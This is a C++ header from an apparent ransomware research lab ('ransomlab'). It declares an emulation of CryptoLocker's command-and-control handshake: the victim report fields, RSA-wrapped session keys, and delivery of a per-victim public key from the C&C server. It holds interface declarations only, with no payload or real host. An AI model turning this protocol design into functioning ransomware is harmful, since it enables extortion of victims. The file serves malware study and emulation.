#pragma once

#include <cstdint>
#include <string>

#include "ransomlab/bytes.hpp"
#include "ransomlab/envelope.hpp"

namespace ransomlab::cryptolocker {

// Victim machine info the client reports in its first message. The field set
// is an emulation convention; the wire form is four NUL-terminated fields.
struct VictimReport {
    std::string machine_name;
    std::string os_version;
    std::string locale;
    std::string bot_id;

    bool operator==(const VictimReport&) const = default;
};

Bytes serialize_report(const VictimReport& report);
VictimReport parse_report(std::span<const std::uint8_t> data);

// The server's answer: protocol version, C&C IPv4, and the per-victim public
// key. Framed as decimal(version) 0x00 c2_ip 0x00 pem 0x00.
struct ClResponse {
    std::uint32_t version = 1;
    std::string c2_ip;
    std::string public_key_pem;

    bool operator==(const ClResponse&) const = default;
};

Bytes frame_response(const ClResponse& r);
ClResponse parse_response(std::span<const std::uint8_t> data);

// Hello blob layout: 2-byte big-endian layout version (currently 1), then the
// RSA-wrapped session key (modulus-size bytes), then the AES envelope of the
// serialized report.
inline constexpr std::uint16_t kHelloLayoutVersion = 1;

struct ClientHello {
    Bytes blob;
    SessionKey session_key;
};

// Client side, steps 1-3: fresh session key, report sealed under it, key
// wrapped to the server's public key.
ClientHello client_hello(const VictimReport& report, const std::string& server_public_pem);

struct AcceptedHello {
    VictimReport report;
    SessionKey session_key;
};

// Server side, step 4. Throws "unsupported layout" on a version mismatch,
// "malformed hello" when the blob cannot hold the layout, and "envelope open
// failure" on any tampering.
AcceptedHello server_accept(std::span<const std::uint8_t> blob,
                            const std::string& server_private_pem);

// Steps 5-6: the per-victim public key travels inside the framed response,
// sealed under the session key from the hello.
Bytes server_reply(const ClResponse& r, const SessionKey& sk);
ClResponse client_finish(std::span<const std::uint8_t> blob, const SessionKey& sk);

} // namespace ransomlab::cryptolocker
